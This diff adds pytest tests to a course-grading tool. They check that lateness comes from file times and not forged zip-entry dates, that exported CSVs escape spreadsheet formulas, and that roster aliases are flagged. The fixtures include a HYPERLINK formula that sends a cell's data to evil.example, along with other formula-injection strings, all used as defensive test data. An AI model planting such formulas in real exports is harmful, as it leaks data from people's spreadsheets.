@@ -20,6 +20,7 @@ user ``cloudsdk`` (through ``runuser``), whose grader uses unprivileged user nam
 from __future__ import annotations
 
 import csv
+import io
 import json
 import os
 import pwd
@@ -281,3 +282,148 @@ def test_strange_names_are_graded_and_stay_in_place(hostile: dict[str, Any]) -> 
         page = out / "feedback" / feedback_name(student)
         assert page.is_file() and len(page.name.encode()) <= 255, student
     assert sorted(p.parent for p in (out / "feedback").rglob("*.html")) == [out / "feedback"] * len(r)
+
+
+# -- the instructor's files: lateness, LMS files, roster aliases (issue 24, three of its attacks) ----
+# One small class graded for real (roster, --due, --late-from-file-times), each attack beside a correct
+# classmate; each test also shows the attack working where the defence is off (the control).
+
+LMS_DUE = "2026-11-20T23:59:00Z"
+FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"grade")'
+FORMULA_IDS = ("=HYPERLINK(1)", "@SUM(1+1)", "+1+1", "-2+3", "\tx", "\rx")
+
+
+@pytest.fixture(scope="module", params=["test-user", ORDINARY_USER])
+def lms_attacks(request: pytest.FixtureRequest) -> Any:
+    """The class graded as the test user and, when that is root, as an ordinary user."""
+    if request.param == ORDINARY_USER:
+        if os.geteuid() != 0:
+            pytest.skip("already running as an ordinary user (see the test-user run)")
+        try:
+            pwd.getpwnam(ORDINARY_USER)
+        except KeyError:
+            pytest.skip(f"no user {ORDINARY_USER} on this machine")
+    base = Path(tempfile.mkdtemp(prefix="labkit-lms-attacks-"))
+    os.chmod(base, 0o755)
+    try:
+        yield _grade_lms_attacks(base, request.param if request.param == ORDINARY_USER else None)
+    finally:
+        shutil.rmtree(base, ignore_errors=True)
+
+
+def _grade_lms_attacks(base: Path, user: str | None) -> dict[str, Any]:
+    from labkit.grading.classlist import parse_time
+
+    builder = Builder(json.loads(SOLUTION.read_text()))
+    subs, out = base / "class", base / "out"
+    subs.mkdir()
+    correct = json.dumps(builder.correct())
+    due = parse_time(LMS_DUE)
+    fortnight = due + 14 * 86400 - 3600  # handed in 14 started days late, on the instructor's disk
+    # Lateness: the entry's date is the student's choice (before the due time); the zip's own time is not.
+    with zipfile.ZipFile(subs / "forger.zip", "w") as archive:
+        archive.writestr(zipfile.ZipInfo("forger.ipynb", date_time=(2026, 11, 19, 12, 0, 0)), correct)
+    os.utime(subs / "forger.zip", (fortnight, fortnight))
+    (subs / "loose.ipynb").write_text(correct)
+    os.utime(subs / "loose.ipynb", (fortnight, fortnight))
+    (subs / "ontime.ipynb").write_text(correct)
+    os.utime(subs / "ontime.ipynb", (due - 3600, due - 3600))
+    # Roster alias: a file named with a classmate's roster e-mail, beside her own.
+    (subs / "201.ipynb").write_text(correct)
+    Builder.write(subs / "jane@example.edu.ipynb", builder.set_up_only())
+    # Formula injection through a name the student sets in the LMS (the roster's) and through ids.
+    (subs / "202.ipynb").write_text(correct)
+    for name in ("201.ipynb", "jane@example.edu.ipynb", "202.ipynb"):
+        os.utime(subs / name, (due - 3600, due - 3600))
+    roster = base / "roster.csv"
+    with roster.open("w", newline="", encoding="utf-8") as fh:
+        writer = csv.writer(fh)
+        writer.writerow(["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Email address"])
+        writer.writerow(["Doe, Jane", "201", "S-201", "jdoe", "A", "jane@example.edu"])
+        writer.writerow([FORMULA_NAME, "202", "@SUM(1+1)", "+1+1", "-2+3", "eve@example.edu"])
+        for student in ("forger/forger", "loose", "ontime"):
+            writer.writerow([f"Student {student}", student, "", "", "A", ""])
+    env = {**{k: v for k, v in os.environ.items() if not k.startswith("LABKIT_")},
+           "XDG_CONFIG_HOME": str(base / "config"), "TMPDIR": str(base)}
+    cmd = [sys.executable, "-m", "labkit.cli", "grade", str(subs), "--out", str(out), "--roster", str(roster),
+           "--due", LMS_DUE, "--late-penalty", "5", "--late-from-file-times", "--assignment", "users"]
+    if user is not None:
+        python = _python_for(user, base)
+        if python is None:
+            pytest.skip(f"no Python that {user} can run here")
+        uid = pwd.getpwnam(user).pw_uid
+        for folder, _, files in os.walk(base):
+            for name in [folder, *(os.path.join(folder, f) for f in files)]:
+                os.chown(name, uid, uid, follow_symlinks=False)
+        cmd = ["runuser", "-u", user, "--", "env", f"HOME={base}", f"XDG_CONFIG_HOME={base / 'config'}",
+               f"TMPDIR={base}", f"PATH={os.environ.get('PATH', '')}", python, *cmd[1:]]
+    proc = subprocess.run(cmd, capture_output=True, text=True, cwd=base, timeout=600, env=env)
+    book = (out / "grades.csv").read_text(encoding="utf-8").splitlines()
+    grades = {r["student"]: r for r in csv.DictReader(book)}
+    return {"proc": proc, "out": out, "grades": grades, "due": due, "roster": roster}
+
+
+def test_a_zip_entrys_date_never_decides_lateness(lms_attacks: dict[str, Any]) -> None:
+    from datetime import UTC, datetime
+
+    from labkit.grading.classlist import LatePolicy
+
+    proc, grades = lms_attacks["proc"], lms_attacks["grades"]
+    assert proc.returncode == 0, proc.stderr[-3000:]
+    assert "the file's time on the instructor's disk (--late-from-file-times)" in proc.stderr  # stated
+    assert (grades["forger/forger"]["late_days"], grades["forger/forger"]["final"]) == ("14", "3")
+    assert (grades["loose"]["late_days"], grades["loose"]["final"]) == ("14", "3")  # the same, loose
+    assert (grades["ontime"]["late_days"], grades["ontime"]["final"]) == ("0", "10")  # classmate
+    # Control: the entry's own date, as it was read before, says "on time".
+    with zipfile.ZipFile(lms_attacks["out"].parent / "class" / "forger.zip") as archive:
+        forged = datetime(*archive.infolist()[0].date_time, tzinfo=UTC).timestamp()
+    assert LatePolicy(lms_attacks["due"], 5).days_late(forged) == 0
+
+
+def _cells(path: Path) -> list[str]:
+    return [c for row in csv.reader(path.read_text(encoding="utf-8-sig").splitlines()) for c in row]
+
+
+def test_lms_files_are_escaped_against_formulas(lms_attacks: dict[str, Any]) -> None:
+    from labkit.grading.classlist import Roster
+    from labkit.grading.exports import lms_files
+
+    out = lms_attacks["out"]
+    for name in ("canvas.csv", "moodle.csv", "grades.csv"):
+        cells = _cells(out / name)
+        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], name
+        assert not [c for c in cells if c.startswith("-") and c not in ("-",) and not c[1:].isdigit()], name
+    assert "'" + FORMULA_NAME in _cells(out / "canvas.csv")  # kept, readable, inert
+    # Ids from file names (no roster) are escaped too; numbers stay numbers.
+    rows = [{"student": s, "assignment": "users", "status": "graded", "score": 10, "max_score": 10,
+             "final": 10, "checks": []} for s in FORMULA_IDS]
+    files = lms_files(rows, Roster()).files
+    for text in files.values():
+        cells = [c for row in csv.reader(text.splitlines()) for c in row]
+        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t") or c.startswith("-2")], cells
+    # Control: the same rows written by a plain csv writer start with the formula.
+    raw = io.StringIO()
+    csv.writer(raw).writerows([[s] for s in FORMULA_IDS])
+    assert raw.getvalue().startswith("=HYPERLINK(1)")
+
+
+def test_roster_aliases_are_flagged_never_merged(lms_attacks: dict[str, Any]) -> None:
+    from labkit.grading.classlist import Roster
+
+    proc, out, grades = lms_attacks["proc"], lms_attacks["out"], lms_attacks["grades"]
+    assert grades["201"]["final"] == "10" and grades["jane@example.edu"]["final"] != "10"
+    for student in ("201", "jane@example.edu"):
+        assert "same person" in grades[student]["flags"], grades[student]
+    assert "2 submissions for one roster person (201, jane@example.edu)" in proc.stderr
+    canvas = list(csv.reader((out / "canvas.csv").read_text(encoding="utf-8").splitlines()))
+    assert "201" not in [row[1] for row in canvas]  # neither replaces her grade: the instructor decides
+    assert "jane@example.edu" not in (out / "moodle.csv").read_text(encoding="utf-8")
+    assert sorted(row[1] for row in canvas[2:]) == ["202", "forger/forger", "loose", "ontime"]
+    # Control: both ids are one roster person, so a gradebook keyed by person keeps the last one (a 0).
+    roster = Roster.read(lms_attacks["roster"])
+    merged: dict[str, str] = {}
+    for student in sorted(("201", "jane@example.edu")):
+        person = roster.find(student)
+        assert person is not None
+        merged[person.id] = grades[student]["final"]
+    assert merged == {"201": grades["jane@example.edu"]["final"]} and merged["201"] != "10"
